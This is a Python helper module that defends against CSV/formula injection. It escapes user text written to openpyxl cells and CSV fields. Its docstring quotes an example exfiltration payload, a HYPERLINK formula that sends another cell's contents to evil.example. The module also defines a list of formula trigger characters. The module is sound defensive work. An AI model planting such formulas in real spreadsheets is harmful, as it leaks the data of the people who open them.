"""Cells and CSV fields written from user text, neutralised against formula (CSV) injection.

OWASP's guidance: a field that begins with = + - @ TAB or CR is read by Excel, LibreOffice and
Google Sheets as a formula (=HYPERLINK("http://evil.example/?leak="&C6,"…") sends other cells
away when clicked). In .xlsx the cell is written as text with Excel's own quote prefix (what
Excel stores when a person types '=1+2): it shows exactly =1+2 and is never evaluated. In CSV,
where no type can be given, the field gets a leading apostrophe, which spreadsheets hide.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """Whether a spreadsheet would read this text as a formula (or a formula's start)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_field(value: Any) -> Any:
    """A CSV field: formula-like text prefixed with a single quote, anything else as it is."""
    return "'" + value if is_formula_like(value) else value


def as_text(cell) -> None:
    """Make an openpyxl cell holding formula-like text a plain text cell (quote prefix)."""
    if is_formula_like(cell.value) or cell.data_type == "f":
        cell.data_type = "s"
        cell.quotePrefix = True


def write(sheet, row: int, column: int, value: Any):
    """sheet.cell(row, column, value) that never makes a formula out of text."""
    cell = sheet.cell(row=row, column=column, value=value)
    as_text(cell)
    return cell


def append(sheet, values: Iterable[Any]) -> None:
    """sheet.append(values) that never makes a formula out of text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        as_text(cell)
